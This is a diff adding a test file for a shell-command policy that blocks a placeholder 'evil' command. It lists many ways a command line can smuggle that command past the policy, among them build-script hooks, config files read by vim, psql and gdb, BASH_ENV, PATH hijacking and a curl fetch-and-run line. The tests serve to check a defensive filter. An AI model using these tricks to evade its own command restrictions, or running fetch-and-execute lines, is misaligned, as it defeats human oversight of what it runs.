@@ -1,0 +1,92 @@
+import { describe, expect, it } from 'vitest';
+import { judge, load, plainHost } from '../policy/virtual-host.ts';
+
+const denying = await load({
+  default_action: 'allow',
+  rules: [{ action: 'deny', when: [{ op: 'command_blacklist', value: 'evil' }] }],
+});
+const verdict = (command: string): string =>
+  judge(denying, { tools: 'local_shell', tool: 'local_shell', args: { command } }, plainHost).action;
+
+const scripts = (table: Readonly<Record<string, string>>): string => `echo '${JSON.stringify({ scripts: table })}'`;
+
+describe('a file that a line writes and a program finds by its name', () => {
+  it.each([
+    `${scripts({ a: 'evil x' })} > package.json && npm run a`,
+    `cat > package.json <<'E'\n{"name":"p","scripts":{"test":"evil x"}}\nE\nnpm test`,
+    `${scripts({ test: 'evil x' })} > package.json; npm t`,
+    `${scripts({ start: '\\u0065vil x' }).replace('\\\\', '\\')} > package.json; npm start`,
+    `${scripts({ a: 'evil' })} | tee package.json; yarn a`,
+    `${scripts({ postinstall: 'evil' })} > package.json; npm i`,
+    `${scripts({ prea: 'evil', a: 'ls' })} > sub/package.json; npm --prefix sub run a`,
+    `${scripts({ a: 'npm run b', b: 'evil' })} > package.json; pnpm run a`,
+    `${scripts({ 'a:b': 'evil' })} > package.json; X=a:b; npm run $X`,
+    `${scripts({ 'a:b': 'evil' })} > package.json; npx run-p 'a:*'`,
+    `${scripts({ a: 'evil' })} > package.json; timeout 5 node --run a`,
+    `${scripts({ a: 'evil' })} > p.json; mv p.json package.json; bun run a`,
+    "npm pkg set scripts.a='evil x' && npm run a",
+    `echo '{"tasks":{"a":"evil"}}' > deno.json; deno task a`,
+    `printf 'a:\\n\\t@evil x\\n' > justfile; just a`,
+    `printf 'task :a do\\n sh "evil x"\\nend' > Rakefile; rake a`,
+    `printf 'import os\\nos.system("evil x")' > conftest.py; pytest`,
+    `printf 'import os\\nos.system("evil x")' > setup.py; pip install .`,
+    `echo 'import os; os.system("evil x")' > m.py; python3 -m m`,
+    `echo 'require("child_process").execSync("evil x")' > index.js; node .`,
+    `cat > main.go <<'E'\npackage main\nfunc main() { exec.Command("evil", "x").Run() }\nE\ngo run main.go`,
+    `echo '!evil x' > s.vim; vim -es -S s.vim`,
+    `echo '\\! evil x' > s; psql --file=s`,
+    `echo '.shell evil x' > s; sqlite3 -init s db`,
+    `echo 'shell evil x' > s; gdb -x s`,
+    'echo evil > s; at -f s now',
+  ])('is in the line: %s', (line) => {
+    expect(verdict(line)).toBe('deny');
+  });
+
+  it.each([
+    'echo evil > s; cp s t; sh t',
+    'echo evil > s; mv s t && sh t',
+    'echo evil > s; ln -s s t; ./t',
+    'echo evil > s; install -m 755 s t; ./t',
+    'echo evil | cp /dev/stdin s; sh s',
+    `echo evil > s.sh; find . -name '*.sh' -exec sh {} \\;`,
+    'echo evil > tidy; chmod +x tidy; PATH=.:$PATH tidy',
+    'echo evil > tidy; chmod +x tidy; export PATH="$PWD:$PATH"; tidy',
+    'echo evil > s; BASH_ENV=./s bash -c :',
+    'echo evil > s; env ENV=s sh -i',
+    'echo evil > s; bash --rcfile s -i',
+    `env 'BASH_FUNC_ls%%=() { evil x; }' bash -c ls`,
+  ])('is in the line by another name or way: %s', (line) => {
+    expect(verdict(line)).toBe('deny');
+  });
+
+  it.each([
+    'curl -o t https://h/x; mv t s; sh s',
+    'curl -o package.json https://h/x; npm test',
+    `${scripts({ a: 'ls $(' })} > package.json; npm run a`,
+  ])('asks where nobody can read it: %s', (line) => {
+    expect(verdict(line)).toBe('approve');
+  });
+
+  it.each([
+    `${scripts({ clean: 'evil x' })} > package.json`,
+    `${scripts({ clean: 'evil x', build: 'ls' })} > package.json && npm run build`,
+    `${scripts({ clean: 'evil x' })} > package.json && npm install`,
+    `${scripts({ clean: 'evil x' })} > package.json && cat package.json`,
+    `${scripts({ clean: 'evil x' })} > other.json && npm run clean`,
+    `${scripts({ evil: 'ls' })} > package.json && npm run evil`,
+    `echo 'not json' > package.json && npm run evil`,
+    'npm pkg set scripts.clean="evil x"',
+    'npm pkg set scripts.clean="evil x" type=module && npm test',
+    "printf 'a:\\n\\tevil x\\n' > justfile",
+    `echo 'import os; os.system("evil x")' > m.py; python3 -m other`,
+    "echo '!evil x' > notes; vim notes",
+    'echo evil > s; cp s t; cat t',
+    'echo evil > s && mv s t && git add t',
+    'ENV=production npm test',
+    'BASH_ENV=/etc/profile.d/x.sh bash -c ls',
+    'echo evil > tidy; tidy',
+    'export PATH="$PWD/node_modules/.bin:$PATH"; tsc',
+  ])('is not where nothing starts it: %s', (line) => {
+    expect(verdict(line)).toBe('allow');
+  });
+});
